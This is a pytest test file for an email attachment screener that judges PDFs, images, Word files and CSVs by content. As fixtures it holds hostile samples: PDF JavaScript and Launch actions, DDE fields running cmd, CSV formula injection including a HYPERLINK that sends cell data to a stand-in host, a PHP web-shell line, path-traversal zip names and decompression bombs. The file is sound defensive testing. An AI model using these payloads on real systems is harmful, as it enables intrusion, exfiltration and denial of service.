"""Which files are kept: by content and structure, never by name; what is left out, what is refused, and why (R11)."""

from __future__ import annotations

import random
import zipfile
from collections.abc import Callable
from io import BytesIO
from typing import Literal

import pytest
from hypothesis import given
from hypothesis import strategies as some

from relay import pdf_file, picture_file, table_file, word_file
from relay.domain import Flaw, FoundFile, KeptFile, LeftOut, Look, Scan, Screened
from relay.file_types import MEDIA_TYPES, is_another, sniff
from relay.refusal import Refusal, Refused
from relay.screen import screen
from relay.settings import Attachments
from tests import files
from tests.effort import takes_at_most

DEFAULT = Attachments()
REFUSE = Attachments(not_allowed="refuse")
ACTIVE = Attachments(active_content="yes")
PDF = files.pdf()
JPG = files.picture("JPEG")
PNG = files.picture("PNG")
DOCX = files.docx()
DOC = files.doc()
CSV = files.CSV
SCRIPT = files.pdf(root="/OpenAction << /S /JavaScript /JS (app.alert) >>")
HEIC = files.heic()
EXE = b"MZ" + b"\0" * 200


def found(content: bytes, name: str = "x", position: int = 1, declared: str = "", **words: bool) -> FoundFile:
    return FoundFile(position=position, name=name, declared=declared, content=content, **words)


# -- what is kept ------------------------------------------------------------------------------------------------------

KEPT = {
    "pdf": (PDF, "Plan.pdf", "", "Plan.pdf", "pdf"),
    "jpg": (JPG, "photo.JPEG", "", "photo.jpeg", "jpg"),
    "png": (PNG, "shot.png", "", "shot.png", "png"),
    "doc": (DOC, "letter.doc", "", "letter.doc", "doc"),
    "docx": (DOCX, "letter.docx", "", "letter.docx", "docx"),
    "csv_by_name": (CSV, "diary.csv", "text/plain", "diary.csv", "csv"),
    "csv_by_declared_type": (CSV, "diary", "text/csv", "diary.csv", "csv"),
    "pdf_called_exe": (PDF, "report.pdf.exe", "application/x-msdownload", "report.pdf", "pdf"),
    "jpg_called_png": (JPG, "photo.png", "image/png", "photo.png.jpg", "jpg"),
    "pdf_without_name": (PDF, "", "", "file.pdf", "pdf"),
    "pdf_after_white_space": (b"\r\n" + PDF, "a.pdf", "", "a.pdf", "pdf"),
}


@pytest.mark.parametrize(("content", "name", "declared", "kept", "kind"), KEPT.values(), ids=KEPT)
def test_screen_keeps_what_is_allowed(
    content: bytes, name: str, declared: str, kept: str, kind: Literal["pdf", "jpg", "png", "doc", "docx", "csv"]
) -> None:
    screened = screen([found(content, name, declared=declared)], DEFAULT, has_text=False)
    assert screened == Screened(kept=(KeptFile(name=kept, type=MEDIA_TYPES[kind], content=content),))


def test_screen_keeps_the_order_and_tells_what_was_left_out() -> None:
    mail = [found(EXE, "a.pdf", 1), found(PDF, "b.pdf", 2), found(SCRIPT, "c.pdf", 3), found(PNG, "d.png", 4)]
    screened = screen(mail, DEFAULT, has_text=True)
    assert [file.name for file in screened.kept] == ["b.pdf", "d.png"]
    assert screened.left_out == (LeftOut(position=1), LeftOut(position=3, flaw="active"))


def test_screen_keeps_the_good_files_of_a_mail_without_text() -> None:
    screened = screen([found(EXE, "a.exe", 1), found(PDF, "b.pdf", 2)], DEFAULT, has_text=False)
    assert (len(screened.kept), screened.left_out) == (1, (LeftOut(position=1),))


def test_screen_never_keeps_what_two_parsers_read_differently() -> None:
    assert screen([found(PDF, agreed=False)], DEFAULT, has_text=True) == Screened(left_out=(LeftOut(position=1),))


FLAWS: dict[str, tuple[bytes, Attachments, Flaw]] = {
    "iphone_photo": (HEIC, DEFAULT, "heic"),
    "edited_photo": (files.heic(b"heix", b"mif1", b"heix"), DEFAULT, "heic"),
    "only_the_family_named": (files.heic(b"mif1", b"miaf"), DEFAULT, "heic"),
    "photo_where_no_jpeg_is_taken": (HEIC, Attachments(allow=("pdf", "png")), "type"),
    "avif": (files.heic(b"avif", b"mif1", b"miaf"), DEFAULT, "type"),
    "video": (files.heic(b"qt  ", b"qt  "), DEFAULT, "type"),
    "box_without_end": (b"\xff\xff\xff\xffftypheic" + bytes(4) + b"heic" * 1000, DEFAULT, "type"),
    "cut_short": (HEIC[:11], DEFAULT, "type"),
    "script": (SCRIPT, DEFAULT, "active"),
    "large": (PDF, Attachments(max_size=9), "large"),
}


@pytest.mark.parametrize(("content", "section", "flaw"), FLAWS.values(), ids=FLAWS)
def test_screen_tells_why_a_file_was_left_out(content: bytes, section: Attachments, flaw: Flaw) -> None:
    screened = screen([found(content, "IMG_0001.HEIC", 4)], section, has_text=True)
    assert screened == Screened(left_out=(LeftOut(position=4, flaw=flaw),))


def test_screen_of_no_files_is_empty() -> None:
    assert screen([], REFUSE, has_text=False) == Screened()


# -- what is refused ---------------------------------------------------------------------------------------------------

TYPES = "PDF, JPG, PNG, DOC, DOCX, CSV"
REFUSED = {
    "nothing_but_a_bad_file": ([found(EXE)], DEFAULT, False, Refusal.FILE_NOT_ALLOWED, "file 1", TYPES),
    "refuse_though_there_is_text": (
        [found(PDF, position=1), found(EXE, position=2)], REFUSE, True, Refusal.FILE_NOT_ALLOWED, "file 2", TYPES,
    ),
    "several": (
        [found(EXE, position=no) for no in (1, 2, 5)], DEFAULT, False, Refusal.FILE_NOT_ALLOWED, "files 1, 2 and 5",
        TYPES,
    ),
    "type_not_in_the_config": (
        [found(CSV, "a.csv")], Attachments(allow=("pdf", "jpg")), False, Refusal.FILE_NOT_ALLOWED, "file 1", "PDF, JPG",
    ),
    "heic": ([found(HEIC, position=no) for no in (1, 2)], DEFAULT, False, Refusal.HEIC_FILE, "files 1 and 2", TYPES),
    "active": ([found(SCRIPT)], DEFAULT, False, Refusal.ACTIVE_FILE, "file 1", TYPES),
    "active_and_bad": (
        [found(SCRIPT), found(EXE, position=2)], DEFAULT, False, Refusal.FILE_NOT_ALLOWED,
        "files 1 (scripts or macros) and 2", TYPES,
    ),
    "heic_and_large": (
        [found(HEIC), found(PDF, position=2)], Attachments(max_size=9), False, Refusal.FILE_NOT_ALLOWED,
        "files 1 (HEIC photo) and 2 (too large)", TYPES,
    ),
    "large": ([found(PDF)], Attachments(max_size=len(PDF) - 1), False, Refusal.TOO_LARGE, "file 1", TYPES),
    "two_readings": ([found(PDF, agreed=False)], DEFAULT, False, Refusal.FILE_NOT_ALLOWED, "file 1", TYPES),
}  # fmt: skip


@pytest.mark.parametrize(("mail", "section", "has_text", "reason", "which", "allowed"), REFUSED.values(), ids=REFUSED)
def test_screen_refuses(
    mail: list[FoundFile], section: Attachments, has_text: bool, reason: Refusal, which: str, allowed: str
) -> None:
    with pytest.raises(Refused) as caught:
        screen(mail, section, has_text=has_text)
    assert caught.value.reason is reason
    assert caught.value.details == {"files": which, "allowed": allowed}


def test_screen_takes_active_files_when_the_config_says_so() -> None:
    both = JPG + DOCX
    screened = screen([found(SCRIPT), found(both, position=2)], ACTIVE, has_text=False)
    assert [file.content for file in screened.kept] == [SCRIPT, both]


def test_screen_takes_a_file_of_the_largest_size() -> None:
    assert screen([found(PDF)], Attachments(max_size=len(PDF)), has_text=False).left_out == ()


SCANS: dict[str, tuple[list[Scan], bool, Refusal | None]] = {
    "clean": (["clean", "clean"], True, None),
    "malware": (["clean", "malware"], True, Refusal.MALWARE),
    "malware_and_down": (["down", "malware"], True, Refusal.MALWARE),
    "down": (["clean", "down"], True, Refusal.SCANNER_DOWN),
}


@pytest.mark.parametrize(("verdicts", "has_text", "reason"), SCANS.values(), ids=SCANS)
def test_screen_asks_the_scanner_about_every_file(verdicts: list[Scan], has_text: bool, reason: Refusal | None) -> None:
    mail = [found(PDF, position=1), found(EXE, position=2)]
    asked: list[bytes] = []

    def scan(content: bytes) -> Scan:
        asked.append(content)
        return verdicts[len(asked) - 1]

    if reason is None:
        assert screen(mail, DEFAULT, has_text=has_text, scan=scan).left_out == (LeftOut(position=2),)
    else:
        with pytest.raises(Refused) as caught:
            screen(mail, DEFAULT, has_text=has_text, scan=scan)
        assert caught.value.reason is reason
        assert caught.value.details == ({"files": "file 2"} if reason is Refusal.MALWARE else {})
    assert asked == [PDF, EXE]


# -- decoration --------------------------------------------------------------------------------------------------------

DECORATION = {
    "tracking_pixel": (files.picture("GIF", 1, 1), True, True, True),
    "tracking_pixel_without_text": (files.picture("PNG", 1, 1), True, False, True),
    "attached_pixel": (files.picture("PNG", 1, 1), False, True, False),
    "icon": (files.picture("PNG", 32, 32), True, True, True),
    "icon_without_text": (files.picture("PNG", 32, 32), True, False, False),
    "logo": (files.picture("PNG", 200, 60), True, True, True),
    "attached_logo": (files.picture("PNG", 200, 60), False, True, False),
    "inline_photo": (files.picture("JPEG", 640, 480), True, True, False),
    "tall_picture": (files.picture("PNG", 200, 101), True, True, False),
    "wide_picture": (files.picture("PNG", 401, 60), True, True, False),
    "inline_document": (PDF, True, True, False),
}


@pytest.mark.parametrize(("content", "inline", "has_text", "dropped"), DECORATION.values(), ids=DECORATION)
def test_screen_drops_decoration(content: bytes, inline: bool, has_text: bool, dropped: bool) -> None:
    screened = screen([found(content, inline=inline)], DEFAULT, has_text=has_text)
    assert (screened == Screened()) is dropped


def test_screen_keeps_a_small_picture_of_many_octets() -> None:
    noise = bytearray(files.picture("PNG", 200, 60))
    noise[-12:-12] = files.chunk(b"prVt", bytes(range(256)) * 64)
    assert screen([found(bytes(noise), inline=True)], DEFAULT, has_text=True).kept


def linked(kind: str, target: str) -> bytes:
    """Make a DOCX with a relationship that leads out."""
    return files.docx({"word/_rels/document.xml.rels": files.relations((kind, target))})


# -- looks -------------------------------------------------------------------------------------------------------------

GIFAR = JPG + DOCX
LOOKS: dict[str, tuple[Callable[[bytes], Look], bytes, Look]] = {
    # pictures
    "jpg": (picture_file.look, JPG, "plain"),
    "jpg_progressive": (picture_file.look, files.progressive(), "plain"),
    "jpg_cut_short": (picture_file.look, JPG[:-40], "plain"),
    "jpg_before_its_scan": (picture_file.look, JPG[:100], "unfit"),
    "jpg_head_only": (picture_file.look, b"\xff\xd8\xff", "unfit"),
    "jpg_and_another_jpg": (picture_file.look, JPG + JPG, "plain"),
    "jpg_and_a_film": (picture_file.look, JPG + b"\0\0\0\x18ftypmp42" + b"\0" * 50, "plain"),
    "jpg_and_nothing": (picture_file.look, JPG + b"\0" * 500, "plain"),
    "jpg_and_a_script": (picture_file.look, JPG + b"\n\n<script>alert(1)</script>", "active"),
    "jpg_and_php": (picture_file.look, JPG + b" x <?php system($_GET[0]);", "active"),
    "jpg_and_a_program": (picture_file.look, JPG + EXE, "active"),
    "jpg_and_a_rar": (picture_file.look, JPG + b"\0" * 9 + b"Rar!\x1a\x07\x01\0", "active"),
    "jpg_and_a_pdf": (picture_file.look, JPG + PDF, "active"),
    "jpg_and_a_zip": (picture_file.look, GIFAR, "active"),
    "png": (picture_file.look, PNG, "plain"),
    "png_of_a_hundred_megapixels": (picture_file.look, files.huge_png(10_000, 10_000), "plain"),
    "png_over_a_hundred_megapixels": (picture_file.look, files.huge_png(10_000, 10_001), "unfit"),
    "png_without_width": (picture_file.look, files.huge_png(0, 100), "unfit"),
    "png_cut_short": (picture_file.look, PNG[:-20], "unfit"),
    "png_with_a_wrong_checksum": (picture_file.look, PNG.replace(b"IDAT", b"IDAX"), "unfit"),
    "png_head_only": (picture_file.look, PNG[:8], "unfit"),
    "png_and_a_program": (picture_file.look, PNG + EXE, "active"),
    # PDF
    "pdf": (pdf_file.look, PDF, "plain"),
    "pdf_packed": (pdf_file.look, files.pdf(packed=True), "plain"),
    "pdf_with_a_link": (pdf_file.look, files.pdf(more=("<< /S /URI /URI (https://example.org) >>",)), "plain"),
    "pdf_opening_at_a_place": (pdf_file.look, files.pdf(root="/OpenAction << /S /GoTo /D [0 /Fit] >>"), "plain"),
    "pdf_opening_a_named_place": (pdf_file.look, files.pdf(root="/OpenAction [0 /Fit]"), "plain"),
    "pdf_that_tells_of_scripts": (
        pdf_file.look, files.pdf(root="/Info << /Title (How /JS and /Launch work) >>"), "plain",
    ),
    "pdf_opening_a_link": (pdf_file.look, files.pdf(root="/OpenAction << /S /URI /URI (http://e.test) >>"), "active"),
    "pdf_page_opening_a_link": (
        pdf_file.look, files.pdf(page="/AA << /O << /S /URI /URI (http://e.test) >> >>"), "active",
    ),
    "pdf_with_a_script": (pdf_file.look, SCRIPT, "active"),
    "pdf_with_a_script_packed": (
        pdf_file.look, files.pdf(more=("<< /S /JavaScript /JS (x) >>",), packed=True), "active",
    ),
    "pdf_with_a_script_in_escapes": (
        pdf_file.look, PDF.replace(b"/Pages ", b"/J#53 (x) /Pages ", 1), "active",
    ),
    "pdf_with_scripts_by_name": (pdf_file.look, files.pdf(root="/Names << /JavaScript << /Names [] >> >>"), "active"),
    "pdf_with_a_script_deep_down": (
        pdf_file.look, files.pdf(more=(f"{'[' * 40}<< /JS (x) >>{']' * 40}",)), "active",
    ),
    "pdf_with_a_script_nobody_refers_to": (pdf_file.look, files.pdf(more=("<< /S /JavaScript >>",)), "active"),
    "pdf_launching": (pdf_file.look, files.pdf(root="/OpenAction << /S /Launch /F (cmd.exe) >>"), "active"),
    "pdf_sending_a_form": (pdf_file.look, files.pdf(more=("<< /S /SubmitForm /F (http://e.test) >>",)), "active"),
    "pdf_going_to_another_file": (pdf_file.look, files.pdf(more=("<< /S /GoToR /F (//e.test/x) >>",)), "active"),
    "pdf_with_a_file": (pdf_file.look, files.pdf_with_file(), "active"),
    "pdf_with_rich_media": (pdf_file.look, files.pdf(page="/Annots [<< /Subtype /RichMedia >>]"), "active"),
    "pdf_with_xfa": (pdf_file.look, files.pdf(root="/AcroForm << /XFA [] /Fields [] >>"), "active"),
    "pdf_with_octets_from_elsewhere": (pdf_file.look, files.pdf_fetching(), "active"),
    "pdf_encrypted": (pdf_file.look, files.pdf_encrypted("secret"), "unfit"),
    "pdf_encrypted_for_nobody": (pdf_file.look, files.pdf_encrypted(""), "unfit"),
    "pdf_without_end": (pdf_file.look, PDF.replace(b"%%EOF", b""), "unfit"),
    "pdf_without_pages": (pdf_file.look, b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n", "unfit"),
    "pdf_head_only": (pdf_file.look, b"%PDF-1.7 %%EOF", "unfit"),
    "pdf_and_a_program": (pdf_file.look, PDF + EXE, "active"),
    "pdf_and_markup": (pdf_file.look, PDF + b"<html><script>", "active"),
    "pdf_object_stream": (pdf_file.look, files.pdf_bomb(1000), "plain"),
    "pdf_bomb": (pdf_file.look, files.pdf_bomb(33 << 20), "unfit"),
    "pdf_bomb_with_two_filters": (
        pdf_file.look, files.pdf_bomb(1000, filters=b"[/ASCII85Decode /FlateDecode]"), "unfit",
    ),
    "pdf_bomb_of_blanks": (pdf_file.look, files.pdf_bomb(3 << 20), "unfit"),
    "pdf_bomb_of_tokens": (pdf_file.look, files.pdf_crowded(2_100_000), "unfit"),
    "pdf_of_many_tokens": (pdf_file.look, files.pdf_crowded(190_000), "plain"),
    "pdf_bomb_under_a_false_name": (pdf_file.look, files.pdf_bomb(33 << 20, b"/Foo"), "unfit"),
    "pdf_objects_under_a_false_name": (pdf_file.look, files.pdf_bomb(1000, b"/Foo"), "unfit"),
    "pdf_objects_in_escapes": (pdf_file.look, files.pdf_bomb(1000, b"/Obj#53tm"), "unfit"),
    # DOCX
    "docx": (word_file.look, DOCX, "plain"),
    "docx_main_part_elsewhere": (
        word_file.look,
        files.docx({"[Content_Types].xml": files.content_types(part="/word/document2.xml"),
                    "word/document.xml": None, "word/document2.xml": files.document()}), "plain",
    ),
    "docx_with_a_link": (
        word_file.look,
        linked("hyperlink", "https://example.org"), "plain",
    ),
    "docx_with_a_template_of_ones_own": (
        word_file.look,
        linked("attachedTemplate", "file:///C:\\Users\\ana\\Normal.dotm"), "plain",
    ),
    "docx_with_page_numbers": (word_file.look, files.docx({"word/document.xml": files.field(" PAGE ")}), "plain"),
    "docx_with_a_remote_template": (
        word_file.look,
        linked("attachedTemplate", "https://e.test/x"), "active",
    ),
    "docx_with_a_template_on_a_share": (
        word_file.look,
        linked("attachedTemplate", "file://e.test/x"), "active",
    ),
    "docx_with_a_remote_picture": (
        word_file.look,
        linked("image", "http://e.test/x.png"), "active",
    ),
    "docx_with_a_remote_object": (
        word_file.look,
        linked("oleObject", "C:\\x"), "active",
    ),
    "docx_with_macros": (word_file.look, files.docx({"word/vbaProject.bin": b"x"}), "active"),
    "docx_called_so_but_docm": (
        word_file.look,
        files.docx({"[Content_Types].xml": files.content_types(files.MACROS)}),
        "active",
    ),
    "docx_with_an_object": (word_file.look, files.docx({"word/embeddings/oleObject1.bin": b"x"}), "active"),
    "docx_with_activex": (word_file.look, files.docx({"word/activeX/activeX1.xml": "<a/>"}), "active"),
    "docx_with_dde": (
        word_file.look, files.docx({"word/document.xml": files.field(" DDE", "AUTO c:\\\\cmd.exe")}), "active",
    ),
    "docx_with_dde_in_short": (
        word_file.look,
        files.docx({"word/document.xml": files.document("<w:p><w:fldSimple w:instr=' DDE x y '/></w:p>")}), "active",
    ),
    "docx_with_html_within": (word_file.look, files.docx({"word/_rels/document.xml.rels": files.INNER}), "active"),
    "docx_with_one_vast_part": (
        word_file.look,
        files.docx({"word/styles.xml": b"<a>" + b"\xa7\x01b" * (22 << 20) + b"</a>"}, zipfile.ZIP_STORED), "unfit",
    ),
    "docx_including_from_the_net": (
        word_file.look, files.docx({"word/document.xml": files.field(' INCLUDEPICTURE "http://e.test/x"')}), "active",
    ),
    "xlsx": (
        word_file.look,
        files.docx({"[Content_Types].xml": files.content_types(files.SHEET, "/xl/workbook.xml"),
                    "xl/workbook.xml": "<workbook/>", "word/document.xml": None}), "unfit",
    ),
    "zip": (word_file.look, files.docx({"[Content_Types].xml": None}), "unfit"),
    "docx_without_document": (word_file.look, files.docx({"word/document.xml": None}), "unfit"),
    "docx_not_well_formed": (word_file.look, files.docx({"word/document.xml": "<w:document>"}), "unfit"),
    "docx_with_a_dtd": (
        word_file.look,
        files.docx({"word/document.xml": '<!DOCTYPE w [<!ENTITY a "b">]>' + files.document().partition("?>")[2]}),
        "unfit",
    ),
    "docx_with_a_dtd_in_utf_16": (
        word_file.look, files.docx({"word/styles.xml": "<!DOCTYPE w><w/>".encode("utf-16")}), "unfit",
    ),
    "docx_with_an_escaping_name": (word_file.look, files.docx({"../../evil.xml": "<a/>"}), "unfit"),
    "docx_with_an_absolute_name": (word_file.look, files.docx({"/etc/evil": "x"}), "unfit"),
    "docx_with_a_backslash": (word_file.look, files.docx({"word/a": "x"}).replace(b"word/a", b"word\\a"), "unfit"),
    "docx_with_a_name_twice": (word_file.look, files.docx({"WORD/document.xml": files.document()}), "unfit"),
    "docx_encrypted": (word_file.look, files.zip_encrypted(DOCX), "unfit"),
    "docx_with_an_encrypted_part": (
        word_file.look, files.zip_encrypted(files.docx({"word/media/a.png": PNG}), b"word/media"), "unfit",
    ),
    "docx_cut_short": (word_file.look, DOCX[:-30], "unfit"),
    "docx_with_something_behind": (word_file.look, DOCX + EXE, "unfit"),
    "docx_bomb": (word_file.look, files.docx({"word/media/a.bin": b"\0" * (30 << 20)}), "unfit"),
    "docx_of_many_parts": (word_file.look, files.docx({f"a/{no}": "" for no in range(4001)}), "unfit"),
    "docx_packed_otherwise": (word_file.look, files.docx(pack=zipfile.ZIP_BZIP2), "unfit"),
    # DOC
    "doc": (word_file.look, DOC, "plain"),
    "doc_with_an_empty_pool": (word_file.look, files.doc({"ObjectPool": None}), "plain"),
    "doc_with_a_template_of_ones_own": (word_file.look, files.doc(template="C:\\Templates\\Brief.dot"), "plain"),
    "doc_with_macros": (word_file.look, files.doc({"Macros/VBA/dir": b"x"}), "active"),
    "doc_with_an_object": (word_file.look, files.doc({"ObjectPool/_1/\x01Ole10Native": b"x"}), "active"),
    "doc_with_a_remote_template": (word_file.look, files.doc(template="https://e.test/x.dot"), "active"),
    "doc_with_a_template_on_a_share": (word_file.look, files.doc(template="\\\\e.test\\x.dot"), "active"),
    "doc_with_dde": (word_file.look, files.doc(text=b'\x13 DDEAUTO c:\\\\cmd "/c x" \x14'), "active"),
    "doc_with_dde_wide": (word_file.look, files.doc(text="\x13 DDE a b\x14".encode("utf-16-le")), "active"),
    "doc_encrypted": (word_file.look, files.doc(flags=0x0100), "unfit"),
    "doc_without_its_table": (word_file.look, files.doc(flags=0x0200), "unfit"),
    "docx_in_an_encrypted_box": (word_file.look, files.ole({"EncryptedPackage": b"x"}), "unfit"),
    "xls": (word_file.look, files.ole({"Workbook": b"x"}), "unfit"),
    "doc_that_is_no_word": (word_file.look, files.ole({"WordDocument": b"x" * 900}), "unfit"),
    "doc_cut_short": (word_file.look, DOC[:3000], "unfit"),
    "doc_head_only": (word_file.look, DOC[:8], "unfit"),
    # CSV
    "csv": (table_file.look, CSV, "plain"),
    "csv_semicolons": (table_file.look, b"a;b\n1;2\n", "plain"),
    "csv_tabs": (table_file.look, b"a\tb\n1\t2\n", "plain"),
    "csv_one_column": (table_file.look, b"name\nana\nlee\n", "plain"),
    "csv_utf_8_marked": (table_file.look, "\ufeffñame,b\n1,2\n".encode(), "plain"),
    "csv_utf_16": (table_file.look, "ñame,b\r\n1,2\r\n".encode("utf-16"), "plain"),
    "csv_cp1252": (table_file.look, "naïve,b\r\n1,2\r\n".encode("cp1252"), "plain"),
    "csv_with_numbers_and_addresses": (
        table_file.look, b"a,b\n-5,+1 555 0100\n3 < 4,<ana@example.org>\n@ana,=\n", "plain",
    ),
    "csv_with_nul": (table_file.look, b"a,b\n1,\0\n", "unfit"),
    "csv_with_escape": (table_file.look, b"a,b\n1,\x1b[31m\n", "unfit"),
    "csv_that_does_not_decode": (table_file.look, b"a,b\n1,\x81\n", "unfit"),
    "csv_with_a_script": (table_file.look, b"a,b\n1,<script>x</script>\n", "unfit"),
    "csv_with_a_tag": (table_file.look, b'a,b\n1,<b onclick="x">\n', "unfit"),
    "csv_with_an_open_tag": (table_file.look, b"a,b\n1,<img src=x onerror=y\n", "unfit"),
    "csv_that_is_html": (table_file.look, b"<!DOCTYPE html>\n<p>a,b</p>", "unfit"),
    "csv_that_is_a_shell_script": (table_file.look, b"#!/bin/sh\necho a,b\n", "unfit"),
    "csv_that_is_rtf": (table_file.look, b"{\\rtf1 a,b}", "unfit"),
    "csv_empty": (table_file.look, b"", "unfit"),
    "csv_blank": (table_file.look, b" \r\n\r\n", "unfit"),
    "csv_that_is_prose": (table_file.look, (b"word " * 80 + b"\n") * 3, "unfit"),
    "csv_with_a_dde_link": (table_file.look, b"a,b\n1,=cmd|'/C calc'!A0\n", "active"),
    "csv_that_fetches": (table_file.look, b'a,b\n1,"=WEBSERVICE(""http://e.test"")"\n', "active"),
    "csv_with_a_formula_link": (table_file.look, b'a;b\n+HYPERLINK("http://e.test?"&A1);2\n', "active"),
}  # fmt: skip


@pytest.mark.parametrize(("look", "content", "expected"), LOOKS.values(), ids=LOOKS)
def test_look_judges(look: Callable[[bytes], Look], content: bytes, expected: Look) -> None:
    assert look(content) == expected


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_look_does_not_lean_on_the_warning_about_large_pictures() -> None:
    assert picture_file.look(files.huge_png(10_000, 10_001)) == "unfit"


# -- types -------------------------------------------------------------------------------------------------------------

ANOTHER = {
    "jpg": (JPG, "jpg", False),
    "pdf": (PDF, "pdf", False),
    "docx": (DOCX, "docx", False),
    "doc": (DOC, "doc", False),
    "csv": (CSV, "csv", False),
    "jpg_and_a_zip": (GIFAR, "jpg", True),
    "pdf_and_a_zip": (PDF + DOCX, "pdf", True),
    "pdf_and_a_zip_with_a_comment": (PDF + files.zip_commented(DOCX), "pdf", True),
    "doc_and_a_zip": (DOC + DOCX, "doc", True),
    "docx_beginning_as_pdf": (files.docx({"[Content_Types].xml": "%PDF-1.7"}, zipfile.ZIP_STORED), "docx", True),
    "png_with_a_pdf_head": (PNG[:33] + b"%PDF-1.7" + PNG[33:], "png", True),
    "doc_and_a_rar": (DOC + b"Rar!\x1a\x07\0", "doc", True),
    "pdf_with_a_zip_that_begins_before_it": (
        PDF + b"PK\x05\x06" + b"\0" * 8 + (len(PDF) + 22).to_bytes(4, "little") + b"\0\0PK\x01\x02", "pdf", False,
    ),
    "pdf_with_the_end_mark_of_a_zip": (PDF + b"PK\x05\x06" + b"\1" * 18, "pdf", False),
}  # fmt: skip


@pytest.mark.parametrize(("content", "kind", "both"), ANOTHER.values(), ids=ANOTHER)
def test_is_another_tells_two_types_at_once(
    content: bytes, kind: Literal["pdf", "jpg", "png", "doc", "docx", "csv"], both: bool
) -> None:
    assert is_another(content, kind) is both


SNIFFED = {
    "exe_called_pdf": (EXE, "application/pdf", "a.pdf", None),
    "gif": (files.picture("GIF"), "image/gif", "a.gif", None),
    "heic": (b"\0\0\0\x18ftypheic", "image/heic", "a.heic", None),
    "text": (b"a,b\n", "text/plain", "a.txt", None),
    "rtf_called_doc": (b"{\\rtf1}", "application/msword", "a.doc", None),
    "winmail": (b"\x78\x9f\x3e\x22", "application/ms-tnef", "winmail.dat", None),
    "empty": (b"", "", "", None),
    "pdf_called_csv": (PDF, "text/csv", "a.csv", "pdf"),
    "pdf_behind_text": (b"hello " + PDF, "application/pdf", "a.pdf", None),
}


@pytest.mark.parametrize(("content", "declared", "name", "kind"), SNIFFED.values(), ids=SNIFFED)
def test_sniff_believes_content_only(content: bytes, declared: str, name: str, kind: str | None) -> None:
    assert sniff(content, declared, name) == kind


# -- bounds ------------------------------------------------------------------------------------------------------------

MANY = 4 << 20
SLOW = {
    "png_of_empty_chunks": (picture_file.look, PNG[:33] + files.chunk(b"prVt", b"") * (MANY // 12)),
    "jpg_of_markers": (picture_file.look, b"\xff\xd8" + b"\xff\xd0" * (MANY // 2)),
    "jpg_of_fill": (picture_file.look, b"\xff\xd8" + b"\xff" * MANY),
    "jpg_of_scans": (picture_file.look, b"\xff\xd8" + b"\xff\xda\0\2" * (MANY // 4)),
    "pdf_of_object_streams": (pdf_file.look, b"%PDF-1.7\n" + b"/ObjStm " * (MANY // 8) + b"%%EOF"),
    "pdf_of_streams": (pdf_file.look, b"%PDF-1.7\n/XRef " + b"stream\n\x78\x9c" * (MANY // 9) + b"%%EOF"),
    "pdf_of_brackets": (pdf_file.look, b"%PDF-1.7\n1 0 obj\n" + b"[" * MANY + b"\n%%EOF"),
    "csv_of_open_tags": (table_file.look, b"<a " * (MANY // 3)),
    "csv_of_quotes": (table_file.look, b'"' * MANY),
    "csv_of_equals": (table_file.look, b"a,b\n" + b"=a|" * (MANY // 3)),
    "csv_of_commands": (table_file.look, b"a,b\n" + b",=" + b",=a|b" * (MANY // 5)),
    "csv_of_words": (table_file.look, b"a,b\n" + b",=import" * (MANY // 8)),
    "csv_of_spaces": (table_file.look, b"a,b\n," + b" " * MANY + b"x"),
    "csv_of_angles": (table_file.look, b"a,b\n" + b"< " * (MANY // 2)),
    "zip_end_marks": (lambda mail: "active" if is_another(mail, "pdf") else "plain", PDF + b"PK\x05\x06" * (MANY // 4)),
}  # fmt: skip


@pytest.mark.parametrize(("look", "content"), SLOW.values(), ids=SLOW)
def test_look_is_quick_about_hostile_files(look: Callable[[bytes], Look], content: bytes) -> None:
    takes_at_most(3, lambda: look(content))


NOISE = random.Random(1).randbytes(300_000)  # a bomb is told by its ratio, too: this hides it
XML = '<?xml version="1.0"?><d>'
BOMBS = {
    "docx_of_elements": lambda: files.docx({"word/a.xml": XML + "<p/>" * 1_100_000 + "</d>", "noise.bin": NOISE}),
    "docx_of_elements_in_many_parts": lambda: files.docx(
        {f"word/{no}.xml": XML + "<p/>" * 10_000 + "</d>" for no in range(120)} | {"noise.bin": NOISE}
    ),
    "docx_of_depth": lambda: files.docx({"word/a.xml": XML + "<a>" * 8_000_000, "noise.bin": NOISE}),
    "docx_of_names": lambda: files.docx({"word/a.xml": XML + "".join(f"<t{no}/>" for no in range(1_100_000))}),
    "docx_of_attributes": lambda: files.docx(
        {"word/a.xml": XML + "<a " + " ".join(f'a{no}="1"' for no in range(1_000_000)) + "/></d>"}
    ),
    "docx_of_one_attribute": lambda: files.docx({"word/a.xml": XML + '<a b="' + "x" * 10**7 + '"/></d>', "n": NOISE}),
    "docx_of_a_comment": lambda: files.docx({"word/a.xml": XML + "<!--" + "x" * 10**7 + "--></d>", "n.bin": NOISE}),
    "docx_of_text": lambda: files.docx({f"word/{no}.xml": XML + "x" * 10**7 for no in range(7)} | {"n": NOISE * 2}),
    "docx_in_utf16": lambda: files.docx({"word/a.xml": ("<d>" + "<p/>" * 1_100_000).encode("utf-16"), "n.bin": NOISE}),
    "zip_of_a_directory": lambda: files.zip_directory(300_000),
    "doc_of_blanks_in_a_field": lambda: files.doc(text=b"\x13" + b" " * 1_000),
}  # fmt: skip


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_look_refuses_bombs_early(bomb: Callable[[], bytes]) -> None:
    content = bomb()
    assert takes_at_most(1.5, lambda: word_file.look(content)) != "plain"


def test_doc_with_a_vast_directory_is_unfit(monkeypatch: pytest.MonkeyPatch) -> None:
    crowded = files.doc({f"Storage{no}": None for no in range(100)})
    assert word_file.look(crowded) == "plain"
    monkeypatch.setattr(word_file, "MAX_ENTRIES", 100)
    assert word_file.look(crowded) == "unfit"


@given(
    which=some.sampled_from([PDF, JPG, PNG, DOCX, DOC, CSV, SCRIPT]),
    at=some.floats(0, 1, exclude_max=True),
    junk=some.binary(max_size=12),
    cut=some.integers(0, 40),
)
def test_screen_never_raises_over_a_damaged_file(which: bytes, at: float, junk: bytes, cut: int) -> None:
    place = int(at * len(which))
    damaged = which[:place] + junk + which[place + cut :]
    screened = screen([found(damaged, "a.csv", declared="text/csv")], DEFAULT, has_text=True)
    assert len(screened.kept) + len(screened.left_out) == 1


def test_screen_shows_no_content_in_its_refusal() -> None:
    with pytest.raises(Refused) as caught:
        screen([found(EXE, "secret-name.exe")], DEFAULT, has_text=False)
    assert "secret" not in repr(caught.value) + str(caught.value.details) + repr(caught.value.__cause__)


def test_zip_is_made_as_word_makes_it() -> None:
